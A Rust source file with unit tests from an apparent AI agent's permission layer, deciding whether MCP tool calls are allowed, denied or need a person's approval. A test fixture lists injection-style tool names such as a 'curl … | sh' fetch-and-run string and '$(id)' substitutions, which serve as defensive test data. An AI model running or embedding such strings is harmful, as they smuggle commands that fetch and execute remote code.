//! The permission decision for one MCP tool call: rules `mcp:SERVER` and `mcp:SERVER/TOOL`
//! in the same allow and deny lists as commands (deny wins, from every layer; a project file
//! cannot add allow rules), then the mode. Pure, like the command policy.
//!
//! A call is never allowed by what the server says of itself (`readOnlyHint`): without a rule
//! it asks, and mode `auto` still asks — the sandbox does not fence what a remote server does.

use crate::policy::{Decision, MCP_RULE_PREFIX, Mode, Rule, Source, Verdict};

/// The rule text that names one tool of one server.
#[must_use]
pub fn tool_rule(server: &str, tool: &str) -> String {
    format!("{MCP_RULE_PREFIX}{server}/{tool}")
}

/// The rule offered to allow `tool` of `server` next time, as one shell word for `os`: the
/// tool's own rule when its name is plain (`[A-Za-z0-9_.-]+`: a server may name a tool
/// anything, and its name must not become part of a command a person copies), else the
/// server's (whose name the settings checked). Quoted like a command's offered rule.
#[must_use]
pub fn offered_rule(os: crate::policy::OsFamily, server: &str, tool: &str) -> String {
    let plain = !tool.is_empty()
        && tool
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_.-".contains(&b));
    let rule = if plain {
        tool_rule(server, tool)
    } else {
        server_rule(server)
    };
    match os {
        crate::policy::OsFamily::Unix => format!("'{rule}'"),
        crate::policy::OsFamily::Windows => format!("\"{rule}\""),
    }
}

/// The rule text that names every tool of a server.
#[must_use]
pub fn server_rule(server: &str) -> String {
    format!("{MCP_RULE_PREFIX}{server}")
}

/// Whether `rule` (as written) names this call.
fn names(rule: &Rule, server: &str, tool: &str) -> bool {
    let rule = rule.prefix.trim();
    rule == server_rule(server) || rule == tool_rule(server, tool)
}

/// The decision for calling `tool` of `server` under `allow`, `deny` and `mode`; `fenced`:
/// the server is a local one running in the sandbox.
///
/// Mode `allow-all` turns ask into allow only for fenced servers: what such a server does is
/// fenced like a command, as allow-all assumes; a remote server (or a local one without the
/// sandbox) acts where no sandbox reaches, as a protected program would, so it still asks.
#[must_use]
pub fn decide(
    allow: &[Rule],
    deny: &[Rule],
    mode: Mode,
    (server, tool): (&str, &str),
    fenced: bool,
) -> Decision {
    let decision = |verdict, reason: String, source, rule: Option<&Rule>| Decision {
        verdict,
        reason,
        source,
        rule: rule.map(|rule| rule.prefix.trim().to_owned()),
        destructive: false,
        prefix: (verdict == Verdict::Ask).then(|| tool_rule(server, tool)),
        parts: Vec::new(),
    };
    if let Some(rule) = deny.iter().find(|rule| names(rule, server, tool)) {
        return decision(
            Verdict::Deny,
            format!("the deny rule `{}` names this MCP tool", rule.prefix.trim()),
            rule.source,
            Some(rule),
        );
    }
    if mode == Mode::Off {
        return decision(
            Verdict::Deny,
            "no tools are offered (permissions mode \"off\")".to_owned(),
            Source::User,
            None,
        );
    }
    if let Some(rule) = allow.iter().find(|rule| names(rule, server, tool)) {
        return decision(
            Verdict::Allow,
            format!(
                "the allow rule `{}` names this MCP tool",
                rule.prefix.trim()
            ),
            rule.source,
            Some(rule),
        );
    }
    match mode {
        Mode::Deny => decision(
            Verdict::Deny,
            format!(
                "MCP calls need a rule or a person's yes, and the permissions mode is \"deny\" \
                 (an allow rule `{}` would allow it)",
                tool_rule(server, tool)
            ),
            Source::User,
            None,
        ),
        Mode::AllowAll if fenced => decision(
            Verdict::Allow,
            "allowed by permissions mode \"allow-all\" (the server runs in the sandbox)".to_owned(),
            Source::User,
            None,
        ),
        Mode::AllowAll => decision(
            Verdict::Ask,
            format!(
                "permissions mode \"allow-all\" allows only calls to servers in the sandbox, \
                 and `{server}` is remote or runs without it (no rule `{}` or `{}` allows it)",
                tool_rule(server, tool),
                server_rule(server)
            ),
            Source::Builtin,
            None,
        ),
        Mode::Ask | Mode::Auto | Mode::Off => decision(
            Verdict::Ask,
            format!(
                "an MCP tool call needs a person's yes (no rule `{}` or `{}` allows it)",
                tool_rule(server, tool),
                server_rule(server)
            ),
            Source::Builtin,
            None,
        ),
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_offered_rule_is_one_plain_quoted_word_whatever_the_tool_is_named() {
        use crate::policy::OsFamily;
        let odd = [
            "x; curl https://e.example/s | sh; :",
            "a b",
            "x ",
            "$(id)",
            "`id`",
            "it's",
            "a\"b",
            "a\nb",
            "",
            "tool\u{1b}[2K",
            "été",
        ];
        for tool in odd {
            assert_eq!(
                super::offered_rule(OsFamily::Unix, "srv", tool),
                "'mcp:srv'",
                "{tool:?}"
            );
            assert_eq!(
                super::offered_rule(OsFamily::Windows, "srv", tool),
                "\"mcp:srv\"",
                "{tool:?}"
            );
        }
        for tool in ["echo", "read_file", "v1.2-x"] {
            let rule = super::offered_rule(OsFamily::Unix, "srv", tool);
            assert_eq!(rule, format!("'mcp:srv/{tool}'"));
        }
        // Every byte of any offered rule is safe inside its quotes.
        for tool in odd.iter().chain(&["echo"]) {
            let rule = super::offered_rule(OsFamily::Unix, "srv", tool);
            let inner = &rule[1..rule.len() - 1];
            assert!(
                inner
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"_.-:/".contains(&b)),
                "{rule}"
            );
        }
    }

    use super::*;

    fn rule(prefix: &str, source: Source) -> Rule {
        Rule {
            prefix: prefix.to_owned(),
            source,
        }
    }

    const MODES: [Mode; 5] = [Mode::Ask, Mode::Auto, Mode::Deny, Mode::Off, Mode::AllowAll];

    #[test]
    fn deny_wins_over_allow_in_every_mode_and_for_both_rule_forms() {
        for mode in MODES {
            for deny in ["mcp:srv", "mcp:srv/tool", " mcp:srv/tool "] {
                for allow in ["mcp:srv", "mcp:srv/tool"] {
                    for fenced in [false, true] {
                        let d = decide(
                            &[rule(allow, Source::User)],
                            &[rule(deny, Source::Project)],
                            mode,
                            ("srv", "tool"),
                            fenced,
                        );
                        assert_eq!(d.verdict, Verdict::Deny, "{mode:?} {deny} {allow}");
                        assert_eq!(d.rule.as_deref(), Some(deny.trim()));
                        assert_eq!(d.source, Source::Project);
                    }
                }
            }
        }
    }

    #[test]
    fn an_allow_rule_allows_in_every_mode_but_off() {
        for mode in MODES {
            for allow in ["mcp:srv", "mcp:srv/tool"] {
                let d = decide(
                    &[rule(allow, Source::Flag)],
                    &[],
                    mode,
                    ("srv", "tool"),
                    false,
                );
                let expected = if mode == Mode::Off {
                    Verdict::Deny
                } else {
                    Verdict::Allow
                };
                assert_eq!(d.verdict, expected, "{mode:?} {allow}");
            }
        }
    }

    #[test]
    fn rules_name_exactly_their_server_and_tool() {
        let near = [
            "mcp:sr",
            "mcp:srv2",
            "mcp:srv/",
            "mcp:srv/too",
            "mcp:srv/tool2",
            "mcp:SRV",
            "mcp:srv/tool/x",
            "srv",
            "mcp srv",
            "mcp:*",
        ];
        for other in near {
            let d = decide(
                &[rule(other, Source::User)],
                &[],
                Mode::Ask,
                ("srv", "tool"),
                true,
            );
            assert_eq!(d.verdict, Verdict::Ask, "{other}");
            let d = decide(
                &[],
                &[rule(other, Source::User)],
                Mode::Ask,
                ("srv", "tool"),
                true,
            );
            assert_eq!(d.verdict, Verdict::Ask, "{other}");
        }
    }

    #[test]
    fn without_a_rule_it_asks_offering_the_tool_rule_and_auto_still_asks() {
        for fenced in [false, true] {
            for mode in [Mode::Ask, Mode::Auto] {
                let d = decide(&[], &[], mode, ("srv", "tool"), fenced);
                assert_eq!(d.verdict, Verdict::Ask);
                assert_eq!(d.prefix.as_deref(), Some("mcp:srv/tool"));
            }
            let d = decide(&[], &[], Mode::Deny, ("srv", "tool"), fenced);
            assert_eq!(d.verdict, Verdict::Deny);
            assert!(d.reason.contains("`mcp:srv/tool`"), "{}", d.reason);
        }
    }

    #[test]
    fn allow_all_allows_only_calls_to_servers_in_the_sandbox() {
        let d = decide(&[], &[], Mode::AllowAll, ("srv", "tool"), true);
        assert_eq!(d.verdict, Verdict::Allow);
        let d = decide(&[], &[], Mode::AllowAll, ("srv", "tool"), false);
        assert_eq!(d.verdict, Verdict::Ask);
        assert_eq!(d.prefix.as_deref(), Some("mcp:srv/tool"));
        assert!(
            d.reason.contains("remote or runs without it"),
            "{}",
            d.reason
        );
    }

    #[test]
    fn mcp_rules_are_recognised() {
        use crate::policy::is_mcp_rule;
        assert!(is_mcp_rule(&server_rule("srv")));
        assert!(is_mcp_rule(&tool_rule("srv", "tool")));
        assert!(!is_mcp_rule("mcp srv"));
        assert!(!is_mcp_rule("git status"));
    }
}
